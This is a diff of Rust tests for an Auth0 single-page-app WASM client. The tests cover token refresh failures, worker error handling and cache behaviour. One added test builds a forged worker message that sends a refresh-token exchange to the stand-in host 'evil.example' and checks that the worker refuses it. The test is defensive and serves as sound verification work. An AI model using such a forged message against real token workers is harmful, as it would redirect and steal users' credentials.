@@ -2,7 +2,10 @@
 
 use std::time::Duration;
 
+use auth0_spa_wasm::error::Error;
 use auth0_spa_wasm::options::{Options, TokenOptions};
+use auth0_spa_wasm::platform::Platform;
+use auth0_spa_wasm::protocol::http::Response;
 use futures::future::{join, join_all};
 
 use super::refresh::{everywhere, frames, off, options, shared, token};
@@ -71,8 +74,7 @@ fn a_caller_that_gives_up_loses_no_token() {
         let impatient = client.clone();
         let platform = world.platform.clone();
         world.run(async move {
-            let hurry =
-                auth0_spa_wasm::platform::Platform::sleep(&platform, Duration::from_millis(10));
+            let hurry = platform.sleep(Duration::from_millis(10));
             let call = impatient.get_token_silently(off());
             futures::pin_mut!(hurry, call);
             assert!(matches!(
@@ -100,7 +102,7 @@ fn a_siblings_newer_token_is_adopted() {
     let platform = world.platform.clone();
     let result = world.run(async move {
         let sibling = async {
-            auth0_spa_wasm::platform::Platform::sleep(&platform, Duration::from_millis(100)).await;
+            platform.sleep(Duration::from_millis(100)).await;
             platform.origin.store.entries.borrow_mut().insert(key.into(), fresh);
             // The tenant of this test forgives the reuse, as one with an overlap would.
             platform.origin.tenant.borrow_mut().families[0].is_revoked = false;
@@ -185,8 +187,7 @@ fn who_waits_for_a_page_that_is_closed_does_not_send_its_token_again() {
         let later = async {
             let waiting = second.get_token_silently(off());
             let found = async {
-                auth0_spa_wasm::platform::Platform::sleep(&platform, Duration::from_millis(1))
-                    .await;
+                platform.sleep(Duration::from_millis(1)).await;
                 platform.origin.tenant.borrow_mut().loses_answers = false;
             };
             join(waiting, found).await.0
@@ -218,4 +219,81 @@ fn w5_a_leader_of_thirty_seconds_fails_no_follower_in_any_tab() {
     let results = world.run(join_all(calls.collect::<Vec<_>>()));
     assert!(results.iter().all(|result| result.as_ref().is_ok_and(Option::is_some)));
     assert_eq!(world.token_requests() - before, 1);
+}
+
+/// How often the token endpoint was asked.
+fn asked(world: &World) -> usize {
+    let is_token = |line: &&String| line.ends_with("/oauth/token");
+    world.platform.log().iter().filter(is_token).count()
+}
+
+#[test]
+fn w7_x08_a_refresh_token_is_sent_once_whatever_becomes_of_it() {
+    type Arrange = fn(&mut crate::common::Tenant);
+    let failures: [(&str, Arrange); 4] = [
+        ("network_error", |tenant| tenant.unreachable = true),
+        ("timeout", |tenant| tenant.latency = Duration::from_secs(11)),
+        ("request_error", |tenant| tenant.token_answer = Some(html(502))),
+        ("request_error", |tenant| tenant.token_answer = Some(html(200))),
+    ];
+    for (code, arrange) in failures {
+        everywhere(|world, client| {
+            let before = asked(world);
+            world.tenant(arrange);
+            assert_eq!(token(world, client, off()).unwrap_err().code(), Some(code));
+            assert_eq!(asked(world), before + 1, "{code}");
+        });
+    }
+}
+
+#[test]
+fn w8_what_cannot_be_read_is_the_same_error_in_worker_and_page() {
+    everywhere(|world, client| {
+        world.tenant(|tenant| tenant.token_answer = Some(html(502)));
+        let error = token(world, client, off()).unwrap_err();
+        let Error::Generic(refusal) = error else { panic!("{error:?}") };
+        assert_eq!((refusal.code.as_str(), refusal.status), ("request_error", Some(502)));
+        assert_eq!(
+            refusal.description,
+            "HTTP error. Unable to fetch https://tenant.example/oauth/token"
+        );
+    });
+}
+
+fn html(status: u16) -> Response {
+    Response { status, headers: Vec::new(), body: "<h1>Bad Gateway</h1>".into() }
+}
+
+#[test]
+fn a_token_that_is_cached_needs_no_worker() {
+    let world = World::new();
+    world.platform.start_worker();
+    let client = world.client_with(options());
+    world.log_in(&client);
+    // Whoever asked it now would wait for ever.
+    *world.platform.tab.worker.borrow_mut() = Worker::Silent;
+    let before = world.platform.origin.now.get();
+    assert!(token(&world, &client, TokenOptions::default()).unwrap().is_some());
+    assert_eq!(world.platform.origin.now.get(), before);
+}
+
+#[test]
+fn oa17_dp37_a_worker_sends_tokens_and_signs_proofs_for_its_own_tenant_only() {
+    let world = World::new();
+    world.platform.start_worker();
+    let client = world.client_with(options());
+    world.log_in(&client);
+    // What a script of the page might say that has found the line to the worker.
+    let errand = r#"{"url":"https://evil.example/oauth/token","telemetry":"","limit":10,"dpop":true,"body":{},"refresh":{"audience":"default","scope":"openid"}}"#;
+    for base_url in ["https://tenant.example", "https://evil.example"] {
+        let message = format!(
+            r#"{{"client_id":"client","base_url":"{base_url}","call":"exchange","errand":{errand}}}"#
+        );
+        let platform = world.platform.clone();
+        let reply = world.run(async move { platform.ask_worker(&message).await }).unwrap();
+        assert!(reply.contains("invalid_fetch_url"), "{reply}");
+    }
+    let sent = world.platform.log();
+    assert!(!sent.iter().any(|line| line.contains("evil")), "{sent:?}");
+    assert!(token(&world, &client, off()).unwrap().is_some());
 }
